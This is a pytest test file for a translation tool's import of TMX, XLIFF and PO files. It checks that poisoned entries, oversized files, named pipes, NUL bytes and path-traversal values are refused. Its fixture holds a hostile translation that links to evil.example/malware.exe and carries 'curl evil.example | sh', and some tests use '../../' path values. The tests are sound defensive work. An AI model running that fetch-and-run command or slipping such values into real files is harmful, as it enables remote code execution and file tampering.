"""Imports are answers too: a TMX, XLIFF or PO file from anyone is checked, bounded and
counted honestly, and never costs the user their own translations."""

from __future__ import annotations

import os
from collections.abc import Iterator
from pathlib import Path

import pytest

from fastdesk.cli.main import run
from fastdesk.config.fileio import MAX_INTERCHANGE_BYTES
from fastdesk.review.model import load_review, review_path
from fastdesk.translate.memory import Memory, MemoryKey
from fastdesk.translate.prompts import PROMPT_VERSION
from fastdesk.translate.tmx import TmxUnit, import_tmx, write_tmx
from tests.emulator import Emulator
from tests.hostile import run_fastdesk
from tests.project_kit import answer_in_language, use_emulator, write

SOURCE = "See [the guide](guide.md) and run `pip install fastdesk` to start."
EVIL = "Voir [le guide](https://evil.example/malware.exe) et lancez `curl evil.example | sh`."


@pytest.fixture
def emu(monkeypatch: pytest.MonkeyPatch) -> Iterator[Emulator]:
    with Emulator(answer=answer_in_language) as e:
        use_emulator(monkeypatch, e)
        yield e


def tmx_file(path: Path, pairs: list[tuple[str, str]], lang: str = "fr") -> Path:
    units = [TmxUnit("en", src, ((lang, dst),)) for src, dst in pairs]
    return write(path, write_tmx(units))


def test_a_tmx_that_changes_a_link_and_a_command_is_not_imported_and_never_published(
    tmp_path: Path, emu: Emulator, capsys: pytest.CaptureFixture[str]
) -> None:
    tmx = tmx_file(tmp_path / "agency.tmx", [(SOURCE, EVIL), ("Hello.", "Bonjour.")])
    assert run(["memory", "import", str(tmx)]) == 0
    out, err = capsys.readouterr()
    assert "kept 1 of 2" in out and "1 refused" in out
    (line,) = [x for x in err.splitlines() if "not imported" in x]
    assert "See [the guide]" in line and "evil.example" in line  # the entry, named
    doc = write(tmp_path / "doc.md", SOURCE + "\n")
    out_md = tmp_path / "out.md"
    assert run(["translate", str(doc), "--to", "fr", "-o", str(out_md)]) == 0
    assert emu.request_count >= 1  # asked of the model, not taken from the file
    assert "evil.example" not in out_md.read_text(encoding="utf-8")


def test_a_tmx_import_never_evicts_the_users_own_translations(tmp_path: Path) -> None:
    memory = Memory(tmp_path / "m.sqlite3", max_entries=10)
    try:
        own = [MemoryKey(f"Own block {i}.", "translate", "fr", PROMPT_VERSION) for i in range(6)]
        for key in own:
            assert memory.put(key, f"Mon bloc {key.text}", provider="groq", model="m")
        units = [TmxUnit("en", f"Imported block {i}.", (("fr", f"Bloc {i}."),)) for i in range(30)]
        done = import_tmx(memory, units, None)
        assert memory.present(own) == 6  # every paid-for translation is still there
        assert done.offered == 30 and done.stored == 30
        assert done.kept == 4 and memory.count() == 10
        assert "kept 4 of 30" in done.summary() and "did not fit" in done.summary()
    finally:
        memory.close()


def test_a_tmx_unit_with_a_nul_byte_or_a_path_for_a_language_is_refused(tmp_path: Path) -> None:
    memory = Memory(tmp_path / "m.sqlite3")
    try:
        units = [
            TmxUnit("en", "One.", (("fr", "Un\x00."),)),
            TmxUnit("en", "Two.", (("../../x", "Deux."),)),
            TmxUnit("en", "Three.", (("fr", "Trois."),)),
        ]
        done = import_tmx(memory, units, None)
        assert (done.offered, done.refused, done.kept) == (3, 2, 1)
        assert memory.count() == 1
    finally:
        memory.close()


@pytest.mark.parametrize(
    ("command", "suffix"),
    [(["memory", "import"], ".tmx"), (["import"], ".xlf"), (["import"], ".po")],
)
def test_a_named_pipe_is_refused_at_once(tmp_path: Path, command: list[str], suffix: str) -> None:
    fifo = tmp_path / f"pipe{suffix}"
    os.mkfifo(fifo)
    done = run_fastdesk([*command, str(fifo)], {"FASTDESK_HOME": str(tmp_path / "h")}, timeout=60)
    assert done.returncode == 2
    assert "named pipe" in done.stderr and "Traceback" not in done.stderr


@pytest.mark.parametrize("suffix", [".tmx", ".xlf", ".po"])
def test_a_file_past_the_size_limit_is_refused_before_reading(
    tmp_path: Path, suffix: str, capsys: pytest.CaptureFixture[str]
) -> None:
    big = tmp_path / f"big{suffix}"
    with big.open("wb") as fh:  # sparse: nothing is really written
        fh.truncate(MAX_INTERCHANGE_BYTES + 1)
    command = ["memory", "import"] if suffix == ".tmx" else ["import"]
    assert run([*command, str(big)]) == 2
    err = capsys.readouterr().err
    assert "too large" in err and err[-1] == "\n" and err.count("\n") == 1


def xliff(original: str, target: str, source: str = SOURCE, state: str = "translated") -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2">\n'
        f'<file original="{original}" source-language="en" target-language="fr" '
        'datatype="x-markdown"><body>\n'
        f'<trans-unit id="b1"><source>{source}</source>'
        f'<target state="{state}">{target}</target></trans-unit>\n'
        "</body></file></xliff>\n"
    )


def test_an_xliff_naming_an_absolute_original_writes_nothing_beside_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    other = write(tmp_path / "elsewhere" / "notes.md", SOURCE + "\n")
    xlf = write(tmp_path / "work" / "notes.fr.xlf", xliff(str(other), "Voir le guide."))
    assert run(["import", str(xlf)]) == 2
    assert "absolute" in capsys.readouterr().err
    assert not review_path(other).exists()


def test_an_xliff_whose_original_climbs_out_of_its_project_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    other = write(tmp_path / "elsewhere" / "notes.md", SOURCE + "\n")
    project = tmp_path / "repo"
    (project / ".git").mkdir(parents=True)
    xlf = write(project / "l10n" / "notes.fr.xlf", xliff("../../elsewhere/notes.md", "Voir."))
    monkeypatch.chdir(project)
    assert run(["import", str(xlf)]) == 2
    assert "outside" in capsys.readouterr().err
    assert not review_path(other).exists()


def test_an_xliff_unit_that_brings_in_a_link_or_a_command_is_not_taken_in(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    doc = write(tmp_path / "guide.md", SOURCE + "\n")
    evil = EVIL.replace("&", "&amp;")
    xlf = write(tmp_path / "guide.fr.xlf", xliff("guide.md", evil, state="final"))
    assert run(["import", str(xlf)]) == 0
    err = capsys.readouterr().err
    assert "not taken in" in err and "evil.example/malware.exe" in err
    review, _ = load_review(doc, "fr")
    assert review.summary().edited == 0 and review.summary().approved == 0


def test_a_nul_byte_from_a_po_does_not_become_a_correction(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    doc = write(tmp_path / "guide.md", "Hello there.\n")
    assert run(["export", str(doc), "--to", "fr", "--format", "po", "-o", "guide.fr.po"]) == 0
    po = tmp_path / "guide.fr.po"
    text = po.read_bytes().replace(b'msgstr ""\n\n', b'msgstr "Bon\x00jour."\n\n')
    assert b"\x00" in text
    po.write_bytes(text)
    assert run(["import", str(po)]) == 0
    assert "NUL" in capsys.readouterr().err
    review, _ = load_review(doc, "fr")
    assert review.summary().edited == 0
